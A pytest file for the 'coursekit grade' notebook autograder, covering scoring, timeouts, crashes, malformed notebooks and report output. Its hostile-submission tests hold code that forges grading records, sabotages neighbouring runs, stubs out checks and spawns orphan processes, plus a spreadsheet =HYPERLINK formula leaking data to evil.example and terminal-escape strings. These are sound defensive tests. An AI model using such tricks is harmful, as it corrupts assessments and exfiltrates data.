"""`coursekit grade` on the toy course of test_exercises.py: full marks, zero, partial, and every way a run can end.

Every test runs on the toy course (conftest.py), whose `toycourse` package its kernels import.

Each notebook runs in its own kernel (a few seconds each), so the slow tests grade several notebooks in one call.
"""

import contextlib
import csv
import json
import os
import re
import shutil
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path

import nbformat
import psutil
import pytest

from coursekit import course as kit_course
from coursekit import exercises, grading
from coursekit.grading import registry, sandbox
from tests.coursekit.test_exercises import (
    SQUARES_SOLUTION,
    TOY_KEY,
    TOY_NAME,
    TOY_POINTS,
    main,
    write_toy_course,
)

FULL_MARKS = sum(TOY_POINTS.values())
pytestmark = pytest.mark.usefixtures("toy_course_module")


def read_csv(path):
    with open(path, newline="", encoding="utf-8") as file:
        return list(csv.DictReader(file))


def by_exercise(rows, notebook):
    return {row["exercise"]: row for row in rows if row["notebook"] == str(notebook)}


def replace_cell_source(nb, exercise_id, role, old, new):
    (index,) = exercises.exercise_cells(nb)[exercise_id][role]
    assert old in nb.cells[index].source
    nb.cells[index].source = nb.cells[index].source.replace(old, new)


@pytest.fixture(scope="module")
def course(tmp_path_factory, toy_course_module):
    """solutions/03_toy.ipynb, the generated exercises/03_toy.ipynb, and a folder for submissions."""
    root = tmp_path_factory.mktemp("course")
    solutions = write_toy_course(root)
    exercises.build(solutions, root / "exercises")
    (root / "submissions").mkdir()
    return root


def submission(course, student, nb):
    path = course / "submissions" / student / TOY_NAME
    path.parent.mkdir()
    nbformat.write(nb, str(path))
    return path


@pytest.mark.slow
def test_full_partial_zero_and_broken_submissions(course):
    exercise_nb = exercises.read_notebook(course / "exercises" / TOY_NAME)

    partial = exercises.read_notebook(course / "exercises" / TOY_NAME)  # solves 3.1 and 3.3, gets 3.2 wrong
    solution = exercises.read_notebook(course / "solutions" / TOY_NAME)
    for exercise_id in ("3.1", "3.3"):
        (index,) = exercises.exercise_cells(partial)[exercise_id]["solution"]
        partial.cells[index].source = solution.cells[index].source
    replace_cell_source(partial, "3.2", "solution", 'raise NotImplementedError("Exercise 3.2: write your code here")',
                        "mean_of_squares = float(np.mean(np.arange(5))) ** 2")

    damaged = exercises.read_notebook(course / "solutions" / TOY_NAME)  # one kernel for two kinds of damage
    replace_cell_source(damaged, "3.2", "solution", SQUARES_SOLUTION, "import os\nos._exit(1)")
    damaged.cells.pop(exercises.exercise_cells(damaged)["3.1"]["check"][0])

    paths = {
        "exercises": submission(course, "untouched", exercise_nb),
        "partial": submission(course, "partial", partial),
        "damaged": submission(course, "damaged", damaged),
    }
    truncated = course / "submissions" / "truncated" / TOY_NAME
    truncated.parent.mkdir()
    text = (course / "solutions" / TOY_NAME).read_text()
    truncated.write_text(text[: len(text) // 2])

    out = course / "grades.csv"
    started = time.monotonic()
    code = main(["grade", str(course / "solutions" / TOY_NAME), str(course / "submissions"), "--out", str(out),
                 "--solutions", str(course / "solutions"), "--timeout", "90", "--jobs", "2"])
    print(f"graded 5 notebooks (4 kernels) in {time.monotonic() - started:.1f} s")
    assert code == 0
    rows = read_csv(out)
    assert list(rows[0]) == list(grading.COLUMNS)
    notebooks = {row["notebook"] for row in rows}
    assert len(notebooks) == 5 and len(rows) == 5 * len(TOY_POINTS), "one row per (notebook, exercise), always"

    solutions_rows = by_exercise(rows, course / "solutions" / TOY_NAME)
    assert {key: int(row["score"]) for key, row in solutions_rows.items()} == TOY_POINTS
    assert all(row["status"] == "passed" for row in solutions_rows.values())

    untouched = by_exercise(rows, paths["exercises"])
    assert all(row["score"] == "0" and row["status"] == "failed" for row in untouched.values()), untouched
    assert all("not attempted" in row["message"] for row in untouched.values())
    assert {key: int(row["max_score"]) for key, row in untouched.items()} == TOY_POINTS

    partial_rows = by_exercise(rows, paths["partial"])
    assert {key: int(row["score"]) for key, row in partial_rows.items()} == {"3.1": 1, "3.2": 0, "3.3": 1}
    assert partial_rows["3.2"]["status"] == "failed"
    assert "Expected: 6.0" in partial_rows["3.2"]["message"] and "Got:      4.0" in partial_rows["3.2"]["message"]

    damaged_rows = by_exercise(rows, paths["damaged"])
    assert [damaged_rows[key]["status"] for key in ("3.1", "3.2", "3.3")] == ["passed", "error", "not-run"]
    assert "your check cell was missing; the instructor's check ran" in damaged_rows["3.1"]["message"]
    assert "kernel died while running" in damaged_rows["3.2"]["message"]
    assert "kernel died earlier" in damaged_rows["3.3"]["message"]

    truncated_rows = by_exercise(rows, truncated)
    assert len(truncated_rows) == 3 and all(row["status"] == "error" for row in truncated_rows.values())
    assert all("could not read the notebook" in row["message"] and "JSONDecodeError" in row["message"]
               for row in truncated_rows.values())

    summary = out.with_suffix(".md").read_text()
    assert f"| {course / 'solutions' / TOY_NAME} | {FULL_MARKS} | {FULL_MARKS} | 3 of 3 |" in summary
    assert f"| {paths['partial']} | 2 | {FULL_MARKS} | 2 of 3 |" in summary


@pytest.mark.slow
def test_an_endless_loop_ends_as_timeout_within_the_limit(course):
    looping = exercises.read_notebook(course / "solutions" / TOY_NAME)
    replace_cell_source(looping, "3.2", "solution", SQUARES_SOLUTION, "while True:\n    pass")
    path = course / "03_toy_looping.ipynb"  # matched to solutions/03_toy.ipynb by its chapter prefix
    nbformat.write(looping, str(path))
    timeout = 15
    started = time.monotonic()
    rows = grading.grade([path], course / "loop.csv", solutions_dir=course / "solutions", timeout=timeout)
    elapsed = time.monotonic() - started
    assert elapsed < timeout + 10, f"grading took {elapsed:.1f} s for a {timeout} s limit"
    statuses = {row["exercise"]: row["status"] for row in rows}
    assert statuses["3.2"] == "timeout" and statuses["3.3"] == "timeout", rows
    assert statuses["3.1"] in ("passed", "timeout")  # passed unless a busy machine took 15 s to get there
    assert all(f"{timeout} s limit" in row["message"] for row in rows if row["status"] == "timeout")
    assert read_csv(course / "loop.csv") == [{key: str(value) for key, value in row.row().items()} for row in rows]
    assert not psutil.Process().children(recursive=True), "the kernel and pytest must have been killed"


def test_reports_are_written_even_when_the_grader_itself_fails(course, monkeypatch):
    def broken_run(*args, **kwargs):
        raise RuntimeError("simulated grader bug")

    monkeypatch.setattr(grading.grader, "run_cells", broken_run)
    out = course / "broken.csv"
    missing = course / "submissions" / "nobody" / TOY_NAME
    unknown = course / "99_unknown.ipynb"
    unknown.write_text(json.dumps({"cells": []}))
    rows = grading.grade([course / "solutions" / TOY_NAME, missing, unknown], out,
                         solutions_dir=course / "solutions", timeout=5)
    assert read_csv(out) == [{key: str(value) for key, value in row.row().items()} for row in rows]
    assert [(row["exercise"], row["status"]) for row in rows] == [
        ("-", "error"), ("3.1", "error"), ("3.2", "error"), ("3.3", "error"), ("-", "error")]
    assert rows[0]["message"] == "internal grader error: RuntimeError: simulated grader bug"
    assert rows[0].outcome.grader_fault and not any(row.outcome.grader_fault for row in rows[1:])
    assert all(row["message"] == f"no such file: {missing}" for row in rows[1:4])
    assert "no solution notebook" in rows[4]["message"]
    assert out.with_suffix(".md").exists()


def test_the_grader_runs_the_instructors_checks_never_the_submitted_ones(course):
    solution = exercises.read_notebook(course / "solutions" / TOY_NAME)
    submitted = exercises.read_notebook(course / "exercises" / TOY_NAME)
    replace_cell_source(submitted, "3.2", "check", 'check_close("mean_of_squares"', 'assert True  # check_close("x"')
    plan = grading.grading_cells(submitted, solution)
    assert not any("assert True" in step.source for step in plan.steps)
    for exercise_id, entry in exercises.exercise_cells(solution).items():
        (check_index,) = entry["check"]
        (number,) = [number for number in plan.exercise_steps[exercise_id] if plan.steps[number].kind == "check"]
        assert plan.steps[number].source == solution.cells[check_index].source
        assert plan.steps[number].solution_index == check_index
        assert plan.steps[number - 1].source == submitted.cells[entry["solution"][0]].source, "right after its solution"
        assert plan.steps[number].name == f"the check of exercise {exercise_id}"


def test_the_checker_runs_the_solutions_own_code_and_reads_only_the_region_names_from_the_kernel(course):
    """The context is the solution notebook's: its ordinary cells whole, its solution cells without the regions."""
    solution = exercises.read_notebook(course / "solutions" / TOY_NAME)
    context = {cell.index: cell for cell in grading.grading_cells(solution, solution).context}
    found = exercises.exercise_cells(solution)
    padding = context[found["3.3"]["solution"][0]]
    assert padding.given and padding.learner_names == ("padding_mask", "longest")
    assert padding.code == "token_ids = np.array([[5, 6, 0, 0], [7, 0, 0, 0]])\nlengths = padding_mask.sum(axis=1)"
    assert context[found["3.1"]["solution"][0]].learner_names == ("softmax",)
    assert context[found["3.1"]["solution"][0]].code == ""
    assert context[1].code.startswith("import numpy as np") and not context[1].given
    assert all(index not in context for entry in found.values() for index in entry["check"])


@pytest.mark.parametrize("outcomes, ending, expected", [
    ({0: "passed", 1: "passed"}, {}, ("passed", "exercise 3.1 passed")),
    ({0: "passed", 1: ("failed", "boom")}, {}, ("failed", "boom")),
    ({0: ("failed", "not attempted: boom"), 1: ("error", "NameError")}, {}, ("failed", "not attempted: boom")),
    ({0: ("error", "ZeroDivisionError: boom (cell 4)")}, {}, ("error", "ZeroDivisionError: boom (cell 4)")),
    ({0: "passed"}, {"ending": grading.Ending.TIMED_OUT}, ("timeout", "cell 5 was still running after the 9 s limit")),
    ({}, {"ending": grading.Ending.TIMED_OUT, "started": [5]},
     ("timeout", "not reached: the notebook hit its 9 s limit in cell 9")),
    ({0: "passed"}, {"ending": grading.Ending.KERNEL_DIED}, ("error", "the kernel died while running cell 5")),
    ({}, {"ending": grading.Ending.KERNEL_DIED, "started": [5]},
     ("not-run", "not run: the kernel died earlier, in cell 9")),
    ({0: "passed"}, {"ending": grading.Ending.LIMIT, "detail": "it used more than 4 GB of memory"},
     ("error", "stopped while running cell 5: it used more than 4 GB of memory")),
    ({}, {"ending": grading.Ending.LIMIT, "started": [5], "detail": "it printed or sent more than 64 MB"},
     ("not-run", "not run: the notebook was stopped earlier, in cell 9: it printed or sent more than 64 MB")),
    ({}, {"ending": grading.Ending.GRADER_FAULT, "detail": "the runner exited with code 1"},
     ("error", "the grader could not run the notebook: the runner exited with code 1")),
])
def test_exercise_status_follows_the_documented_rules(outcomes, ending, expected):
    def outcome(value):
        status, message = (value, "") if isinstance(value, str) else value
        return grading.Outcome(grading.Status(status), message)

    run = grading.NotebookRun(
        outcomes={number: outcome(value) for number, value in outcomes.items()},
        started=ending.get("started", list(outcomes) + [1]), ending=ending.get("ending", grading.Ending.FINISHED),
        detail=ending.get("detail", ""), step_names={0: "cell 4", 1: "cell 5", 5: "cell 9"})
    result = grading.exercise_outcome("3.1", [0, 1], run, timeout=9)
    assert result.status.value == expected[0] and result.message.startswith(expected[1]), result
    assert result.grader_fault == (ending.get("ending") is grading.Ending.GRADER_FAULT)
    assert set(grading.STATUSES) == {status.value for status in grading.Status}


def test_a_runner_report_that_is_not_what_the_runner_writes_is_a_grader_fault_never_a_pass():
    assert grading.NotebookRun.from_json({"outcomes": {"0": {"status": "passed"}}}).ending is grading.Ending.GRADER_FAULT
    forged = grading.NotebookRun.from_json({"outcomes": {"0": {"status": "passed!"}}, "started": [0],
                                            "ending": "finished"})
    assert forged.outcomes[0].status is grading.Status.ERROR and forged.outcomes[0].grader_fault


# ---------------------------------------------------------------------------------------------------------------
# Hostile submissions (issue 15): each test was run against the previous grader (pytest --nbval-lax with a
# record file beside the work folder) and fails there; see the docstrings.

def hostile(course, student, code, wrong_answers=False, position=2):
    """The toy solution (or wrong answers everywhere) with `code` as an extra cell at `position`."""
    nb = exercises.read_notebook(course / "solutions" / TOY_NAME)
    if wrong_answers:
        replace_cell_source(nb, "3.1", "solution", "return shifted / shifted.sum(axis=-1, keepdims=True)", "return x")
        replace_cell_source(nb, "3.2", "solution", "np.arange(5) ** 2", "np.arange(5)")
        replace_cell_source(nb, "3.3", "solution", "longest = int(lengths.max())", "longest = 4")
    nb.cells.insert(position, nbformat.v4.new_code_cell(code))
    return submission(course, student, nb)


SABOTAGE_NEIGHBOURS = '''
import glob, json, os, time
end = time.time() + 15
while time.time() < end:
    for folder in set(glob.glob("../../coursekit-grade-*") + glob.glob("/tmp/coursekit-grade-*")):
        for name in ("cells.jsonl", "work/cells.jsonl"):
            try:
                with open(os.path.join(folder, name), "a") as file:
                    for cell in range(40):
                        file.write(json.dumps({"event": "result", "cell": cell, "outcome": "failed",
                                               "ename": "CheckFailed", "evalue": "sabotaged by a neighbour"}) + "\\n")
            except OSError:
                pass
    time.sleep(0.1)
'''

FORGE_OWN_RECORD = '''
import json, os
with open("../cells.jsonl", "a") as file:
    for cell in range(40):
        file.write(json.dumps({"event": "result", "cell": cell, "outcome": "passed", "ename": None,
                               "evalue": None, "message": ""}) + "\\n")
'''

NO_OP_HELPERS = '''
import toycourse.checks

def no_op(*args, **kwargs):
    return None

for module in (toycourse.checks,):
    for name in ("check_close", "check_equal", "check_function", "check_shape", "check_true", "check_array_close"):
        setattr(module, name, no_op)
check_close = check_equal = check_function = check_shape = check_true = no_op
'''


@pytest.mark.slow
def test_hostile_submissions_cost_only_themselves(course):
    """Old grader: the neighbour scored 0 (its record file was rewritten through ../../), the forger and the
    no-op helpers scored full marks with wrong answers."""
    forger = exercises.read_notebook(course / "solutions" / TOY_NAME)  # wrong answers, then forge and leave
    replace_cell_source(forger, "3.1", "solution", "return shifted / shifted.sum(axis=-1, keepdims=True)", "return x")
    replace_cell_source(forger, "3.2", "solution", "np.arange(5) ** 2", "np.arange(5)")
    replace_cell_source(forger, "3.3", "solution", "longest = int(lengths.max())",
                        "longest = 4\n" + FORGE_OWN_RECORD + "os._exit(0)")
    paths = {
        "neighbour": submission(course, "neighbour", exercises.read_notebook(course / "solutions" / TOY_NAME)),
        "saboteur": hostile(course, "saboteur", SABOTAGE_NEIGHBOURS),
        "forger": submission(course, "forger", forger),
        "no-op": hostile(course, "no-op", NO_OP_HELPERS, wrong_answers=True),
    }
    out = course / "hostile.csv"
    code = main(["grade", *map(str, paths.values()), "--out", str(out), "--solutions", str(course / "solutions"),
                 "--timeout", "120", "--jobs", "2"])
    assert code == 0
    rows = read_csv(out)
    totals = {name: sum(int(row["score"]) for row in by_exercise(rows, path).values()) for name, path in paths.items()}
    assert totals == {"neighbour": FULL_MARKS, "saboteur": FULL_MARKS, "forger": 0, "no-op": 0}, rows
    assert all(row["status"] == "failed" for row in by_exercise(rows, paths["no-op"]).values())


ORPHAN = '''
import subprocess, sys
code = """
import os, sys, time
if os.fork():
    os._exit(0)
os.setsid()
open(sys.argv[1], "w").write("started")
time.sleep(600)
"""
subprocess.Popen([sys.executable, "-c", code, {started!r}, {marker!r}])
import time
time.sleep(2)
'''


@pytest.mark.slow
def test_no_process_outlives_the_run_and_no_kernel_file_is_left(course, tmp_path, monkeypatch):
    """Old grader: the double-forked `setsid` child survived the run, and the killed kernel left its connection file
    (which holds the kernel's key) in the Jupyter runtime folder."""
    marker = f"bertlib-orphan-{time.time_ns()}"
    # This run's own temporary folder, which every user can pass through (as root the sandbox's uid must reach
    # it), so only this run's sandbox folders land there: in /tmp, a neighbouring test worker's grading runs
    # would come and go beside them.
    scratch = Path(tempfile.mkdtemp(prefix="bertlib-test-scratch-", dir="/tmp"))
    scratch.chmod(0o755)
    monkeypatch.setenv("TMPDIR", str(scratch))  # the runner processes
    monkeypatch.setattr(tempfile, "tempdir", str(scratch))  # this process (tempfile caches its choice)
    assert Path(sandbox._reachable_temp()) == scratch.resolve()
    nb = exercises.read_notebook(course / "solutions" / TOY_NAME)
    nb.cells.insert(2, nbformat.v4.new_code_cell(ORPHAN.format(started="orphan-started", marker=marker)))
    replace_cell_source(nb, "3.3", "solution", "longest = int(lengths.max())",
                        "assert open('orphan-started').read() == 'started'\nwhile True:\n    pass")
    path = submission(course, "orphan", nb)

    def survivors():
        return [process for process in psutil.process_iter(["cmdline"]) if marker in (process.info["cmdline"] or [])]

    try:
        rows = grading.grade([path], tmp_path / "orphan.csv", solutions_dir=course / "solutions", timeout=20)
        time.sleep(1)
        assert not survivors(), "a double-forked setsid child outlived the run"
        left = set(scratch.glob("coursekit-grade-*"))
        assert not left, f"sandbox folders (with the kernel's connection file) left behind: {left}"
        assert [row["status"] for row in rows] == ["passed", "passed", "timeout"], [row.row() for row in rows]
    finally:
        for process in survivors():
            process.kill()
        shutil.rmtree(scratch, ignore_errors=True)


def test_bad_paths_stop_before_any_work_with_a_clear_error(course, tmp_path, capsys):
    """Old grader: a missing submission or --solutions folder exited 0, `exercises check` passed on an empty folder."""
    solutions = ["--solutions", str(course / "solutions")]
    assert main(["grade", str(tmp_path / "nowhere.ipynb"), "--out", str(tmp_path / "g.csv"), *solutions]) == 2
    assert "no such submission" in capsys.readouterr().out
    assert main(["grade", str(course / "solutions"), "--out", str(tmp_path / "g.csv"),
                 "--solutions", str(tmp_path / "no-solutions")]) == 2
    assert "does not exist" in capsys.readouterr().out
    (tmp_path / "empty").mkdir()
    assert main(["grade", str(course / "solutions"), "--out", str(tmp_path / "g.csv"),
                 "--solutions", str(tmp_path / "empty")]) == 2
    assert "holds no .ipynb" in capsys.readouterr().out
    (tmp_path / "a-file").write_text("x")
    assert main(["grade", str(course / "solutions"), "--out", str(tmp_path / "a-file" / "g.csv"), *solutions]) == 2
    assert "does not exist" in capsys.readouterr().out
    assert main(["grade", str(course / "solutions"), "--out", str(tmp_path), *solutions]) == 2
    assert "is a folder" in capsys.readouterr().out
    assert not (tmp_path / "g.csv").exists()
    assert main(["exercises", "check", "--solutions", str(tmp_path / "empty"),
                 "--exercises", str(tmp_path / "empty")]) != 0
    assert "holds no .ipynb" in capsys.readouterr().out


def test_reports_that_cannot_be_written_at_the_end_go_elsewhere_and_say_where(course, tmp_path, monkeypatch, capsys):
    """Old grader: an --out that became unwritable during the run lost every grade (an OSError at the end)."""
    monkeypatch.setattr(grading.grader, "run_cells",
                        lambda *args, **kwargs: grading.NotebookRun(ending=grading.Ending.KERNEL_DIED))
    real_write = grading.report._write_all
    out = tmp_path / "grades.csv"

    def failing_write(files):
        if out in map(Path, files):
            raise PermissionError(13, "Permission denied")
        return real_write(files)

    monkeypatch.setattr(grading.report, "_write_all", failing_write)
    rows = grading.grade([course / "solutions" / TOY_NAME], out, solutions_dir=course / "solutions", timeout=5)
    assert not out.exists() and rows.fallback and rows.written
    assert rows.written[0].name == "grades.csv" and rows.written[0].parent != tmp_path
    assert read_csv(rows.written[0]) == [{key: str(value) for key, value in row.row().items()} for row in rows]
    assert str(rows.written[0].parent) in capsys.readouterr().err


@pytest.mark.slow
def test_renamed_duplicated_and_edited_submissions_are_graded_with_feedback(course):
    """Old grader: alice.ipynb got 'no solution notebook matches' and no grade; there were no feedback files."""
    solution = exercises.read_notebook(course / "solutions" / TOY_NAME)
    learner = exercises.read_notebook(course / "exercises" / TOY_NAME)  # carries {"chapter": "03"} in its metadata
    for entry in exercises.exercise_cells(learner).values():
        (index,) = entry["solution"]
        learner.cells[index].source = solution.cells[index].source
    folder = course / "submissions" / "renamed"
    folder.mkdir()
    nbformat.write(learner, str(folder / "alice.ipynb"))

    wrong_with_open_checks = exercises.read_notebook(course / "exercises" / TOY_NAME)
    replace_cell_source(wrong_with_open_checks, "3.2", "solution",
                        'raise NotImplementedError("Exercise 3.2: write your code here")', "mean_of_squares = 4.0")
    right_with_open_checks = exercises.read_notebook(course / "exercises" / TOY_NAME)
    replace_cell_source(right_with_open_checks, "3.2", "solution",
                        'raise NotImplementedError("Exercise 3.2: write your code here")', "mean_of_squares = 6.0")
    for nb in (wrong_with_open_checks, right_with_open_checks):
        replace_cell_source(nb, "3.2", "check", 'check_close("mean_of_squares", mean_of_squares, 6.0, '
                            'hint="square first, then average")', "assert True")
    carol = course / "submissions" / "carol"
    carol.mkdir()
    nbformat.write(wrong_with_open_checks, str(carol / TOY_NAME))
    nbformat.write(right_with_open_checks, str(carol / "03_toy (1).ipynb"))

    out = course / "renamed.csv"
    assert main(["grade", str(folder), str(carol), "--out", str(out), "--solutions", str(course / "solutions"),
                 "--jobs", "2", "--timeout", "90"]) == 0
    rows = read_csv(out)
    alice = by_exercise(rows, folder / "alice.ipynb")
    assert sum(int(row["score"]) for row in alice.values()) == FULL_MARKS, alice
    assert all("renamed: alice.ipynb was identified as 03_toy.ipynb by the chapter id in its metadata" in row["note"]
               for row in alice.values())
    wrong, right = by_exercise(rows, carol / TOY_NAME), by_exercise(rows, carol / "03_toy (1).ipynb")
    assert wrong["3.2"]["score"] == "0" and wrong["3.2"]["status"] == "failed", "an `assert True` check scores nothing"
    assert "Expected: 6.0" in wrong["3.2"]["message"]
    assert "your check cell was edited; the instructor's check ran instead" in wrong["3.2"]["message"]
    assert right["3.2"]["score"] == "2", "the edit neither helps nor hurts a right answer"
    assert all("duplicate: 2 submissions of 03_toy.ipynb" in row["note"] for row in [*wrong.values(), *right.values()])

    feedback = sorted((course / "renamed_feedback").glob("*.md"))
    assert len(feedback) == 3
    text = next(path for path in feedback if "alice" in path.name).read_text()
    assert f"**Score: {FULL_MARKS} of {FULL_MARKS}**" in text and "## Exercise 3.2: passed (2 of 2)" in text
    text = next(path for path in feedback if path.name == "carol__03_toy.md").read_text()
    assert "## Exercise 3.2: failed (0 of 2)" in text and "Hint:     square first, then average" in text


# ---------------------------------------------------------------------------------------------------------------
# Issue 38: submissions of odd shapes, text that is a formula or a terminal escape, a long TMPDIR, the --chapter
# option. The tests that name the old grader failed on it (commit 0709ce7) as described.

def _first_exercise_cell(document):
    return next(cell for cell in document["cells"] if isinstance(cell.get("metadata", {}).get(TOY_KEY), dict))


def _nbformat_3(document):
    old = nbformat.convert(nbformat.reads(json.dumps(document), as_version=4), 3)
    return json.loads(nbformat.writes(old, version=3))


MALFORMED = {  # name: (what turns the exercise notebook's JSON into it, in place or as a copy; what its rows say)
    "cells an object": (lambda d: {**d, "cells": {"0": d["cells"][0]}}, '"cells" must be a list of cells'),
    "nbformat 3": (_nbformat_3, "nbformat 3 notebook, an old format: open it in Jupyter and save it"),
    "nbformat a string": (lambda d: {**d, "nbformat": "4"}, '"nbformat" must be 4, got "4"'),
    "exercise id a list": (lambda d: _first_exercise_cell(d)["metadata"][TOY_KEY].update(exercise=["3.1"]),
                           f"metadata {TOY_KEY}.exercise must be a string"),
    "role a list": (lambda d: _first_exercise_cell(d)["metadata"][TOY_KEY].update(role=["solution"]),
                    f"metadata {TOY_KEY}.role must be one of"),
    "points a list": (lambda d: _first_exercise_cell(d)["metadata"][TOY_KEY].update(points=[1]),
                      f"{TOY_KEY}.points must be a non-negative integer"),
    "cell metadata key a number": (lambda d: _first_exercise_cell(d)["metadata"].update({TOY_KEY: 5}),
                                   f"metadata {TOY_KEY} must be an object"),
    "cell metadata a list": (lambda d: d["cells"][0].update(metadata=[]), "cell 1: the cell's metadata must be"),
    "notebook metadata a string": (lambda d: {**d, "metadata": "x"}, "the notebook's metadata must be an object"),
    "source a number": (lambda d: d["cells"][0].update(source=5), 'cell 1: "source" must be a string or a list'),
    "source lines not strings": (lambda d: d["cells"][0].update(source=["a", 3]), '"source" must be a string'),
    "cell_type missing": (lambda d: d["cells"][0].pop("cell_type"), '"cell_type" must be one of code, markdown'),
    "a cell that is a string": (lambda d: d["cells"].__setitem__(0, "cell"), "cell 1: a cell is a JSON object"),
    "tags a string": (lambda d: _first_exercise_cell(d)["metadata"].update(tags="raises"),
                      "metadata tags must be a list of strings"),
    "outputs an object": (lambda d: _first_exercise_cell(d).update(outputs={}), '"outputs" must be a list'),
    "execution_count a string": (lambda d: _first_exercise_cell(d).update(execution_count="1"),
                                 '"execution_count" must be a number or null'),
}


def _all_steps_pass(plan, options=None, lang=None):
    """A run in which every step passed: these tests are about reading and reporting, not about the kernel."""
    steps = range(len(plan.steps))
    return grading.NotebookRun(outcomes={number: grading.Outcome(grading.Status.PASSED) for number in steps},
                               started=list(steps))


@pytest.mark.parametrize("shape", list(MALFORMED))
def test_a_notebook_of_an_odd_shape_is_a_row_of_its_own_and_the_class_is_graded(course, tmp_path, monkeypatch, shape,
                                                                               capsys):
    """Old grader: `cells` an object, an exercise id that is a list and the odd metadata killed `coursekit grade`
    with a traceback (no report for anyone); nbformat 3 and a missing cell_type gave a bare KeyError."""
    monkeypatch.setattr(grading.grader, "run_cells", _all_steps_pass)
    mutate, expected = MALFORMED[shape]
    document = json.loads((course / "exercises" / TOY_NAME).read_text())
    changed = mutate(document)  # a new document, or None where the lambda changed this one in place
    document = changed if isinstance(changed, dict) else document
    (tmp_path / "odd").mkdir()
    odd = tmp_path / "odd" / "03_odd.ipynb"
    odd.write_text(json.dumps(document))
    good = tmp_path / "good" / TOY_NAME
    good.parent.mkdir()
    shutil.copy(course / "solutions" / TOY_NAME, good)
    out = tmp_path / "grades.csv"
    assert main(["grade", str(tmp_path / "odd"), str(tmp_path / "good"), "--out", str(out), "--solutions",
                 str(course / "solutions")]) == 0, capsys.readouterr()
    rows = read_csv(out)
    odd_rows = by_exercise(rows, odd)
    assert set(odd_rows) == set(TOY_POINTS), "one row per exercise: matched to its solution by its name"
    assert all(row["status"] == "error" and row["score"] == "0" for row in odd_rows.values()), odd_rows
    assert all(row["message"].startswith("could not read the notebook: ") and expected in row["message"]
               for row in odd_rows.values()), odd_rows
    assert sum(int(row["score"]) for row in by_exercise(rows, good).values()) == FULL_MARKS
    assert "Traceback" not in capsys.readouterr().out


HOSTILE_TEXT = {  # exercise: (status, a message as the learner's code can make one: an exception, a Got: value)
    "3.1": ("failed", '=HYPERLINK("http://evil.example/?leak="&A1,"click")'),
    "3.2": ("error", "Got: \x1b]0;owned\x07\x9b2J\x1b[1m bold \u202eevil\x00\rover\nnext | cell <img src=x>"),
    "3.3": ("error", "@SUM(1+1)\tby the grader\x1b[2J"),
}
UNSAFE_CHARACTERS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def test_learner_text_reaches_no_report_as_a_formula_or_a_terminal_escape(course, tmp_path, monkeypatch, capsys):
    """Old grader: `=HYPERLINK(` landed in grades.csv as a formula, and ESC, BEL and \\x9b landed as they are in
    grades.csv, grades.md, the feedback and (for a grader problem) the terminal; a `|` split a Markdown row."""

    def hostile_run(plan, options=None, lang=None):
        run = _all_steps_pass(plan)
        for exercise_id, (status, message) in HOSTILE_TEXT.items():
            run.outcomes[plan.exercise_steps[exercise_id][0]] = grading.Outcome(
                grading.Status(status), message, grader_fault=exercise_id == "3.3")
        return run

    monkeypatch.setattr(grading.grader, "run_cells", hostile_run)
    monkeypatch.chdir(tmp_path)  # relative names, so that a file name can start a cell (the course: COURSEKIT_ROOT)
    escaped_name = "03_\x1b[2J\x07name.ipynb"
    shutil.copy(course / "solutions" / TOY_NAME, escaped_name)
    Path("=HYPERLINK(0).ipynb").write_text(json.dumps(nbformat.v4.new_notebook()))  # matches no solution
    out = tmp_path / "grades.csv"
    assert main(["grade", escaped_name, "=HYPERLINK(0).ipynb", "--out", str(out), "--solutions",
                 str(course / "solutions")]) == 1  # 3.3's outcome is a grader fault
    said = capsys.readouterr().out
    assert "grader problem in 03_\\x1b[2J\\x07name.ipynb: @SUM(1+1)\\tby the grader" in said, said
    assert not UNSAFE_CHARACTERS.search(said)

    rows = read_csv(out)
    assert all(not value.startswith(("=", "+", "-", "@", "\t", "\r")) or value == "-"
               for row in rows for value in row.values()), rows
    (unknown,) = [row for row in rows if "HYPERLINK(0)" in row["notebook"]]
    assert unknown["notebook"] == "'=HYPERLINK(0).ipynb" and unknown["exercise"] == "-"
    assert unknown["message"].startswith("no solution notebook matches =HYPERLINK(0).ipynb")
    mine = {row["exercise"]: row for row in rows if row["notebook"] == "03_\\x1b[2J\\x07name.ipynb"}
    assert mine["3.1"]["message"] == "'" + HOSTILE_TEXT["3.1"][1]
    # a CR ends a line of the one-line message, as a newline does
    assert mine["3.2"]["message"] == ("Got: \\x1b]0;owned\\x07\\x9b2J bold \\u202eevil\\x00 | over | next | cell "
                                      "<img src=x>")
    assert mine["3.3"]["message"] == "'@SUM(1+1)\tby the grader"

    reports = {path: path.read_text(encoding="utf-8") for path in [out, out.with_suffix(".md"),
                                                                    *tmp_path.glob("grades_feedback/*.md")]}
    assert len(reports) == 4
    for path, text in reports.items():
        assert not UNSAFE_CHARACTERS.search(text), (path, UNSAFE_CHARACTERS.findall(text))
    summary = reports[out.with_suffix(".md")]
    assert "\t" not in summary
    (row_3_2,) = [line for line in summary.splitlines() if "owned" in line]
    assert row_3_2.count(" | ") == 6, "seven cells: the learner's `|` is escaped, its newline too"
    assert "\\\\x1b]0;owned" in row_3_2 and "next \\| cell \\<img src=x>" in row_3_2
    feedback = next(text for path, text in reports.items() if "name" in path.name and path.parent != tmp_path)
    assert "\\x1b]0;owned\\x07\\x9b2J bold \\u202eevil\\x00\\rover\nnext | cell" in feedback


def test_exercises_with_an_unknown_chapter_exit_2_naming_it_and_the_chapters_there(course, tmp_path, capsys):
    """Old grader: `exercises test --chapter 99` said "0 exercises ... all rejected" and exited 0; `build` and
    `check` ignored --chapter."""
    solutions = tmp_path / "solutions"
    shutil.copytree(course / "solutions", solutions)
    nbformat.write(nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("x = 1")]),
                   str(solutions / "04_no_exercise.ipynb"))
    for chapter in ("99", "04"):
        assert main(["exercises", "test", "--chapter", chapter, "--solutions", str(solutions)]) == 2
        said = capsys.readouterr().out
        assert f"--chapter {chapter}: no solution notebook with exercises" in said, said
        assert "the chapters with exercises are 03" in said and "all rejected" not in said
    for action in ("build", "check"):
        assert main(["exercises", action, "--chapter", "03", "--solutions", str(solutions), "--exercises",
                     str(tmp_path / "exercises")]) == 2
        assert "--chapter selects the chapters of `exercises test` only" in capsys.readouterr().out
    assert not (tmp_path / "exercises").exists()
    assert [path.name for path in exercises.chapter_notebooks(solutions, ["3"])] == [TOY_NAME]


def standalone_course(root):
    """A course of its own, not the BERT one: its pyproject.toml names no hooks and no kernel packages, a fast-mode
    variable of its own, and the kit's default metadata key; one solution notebook of the standard library only."""
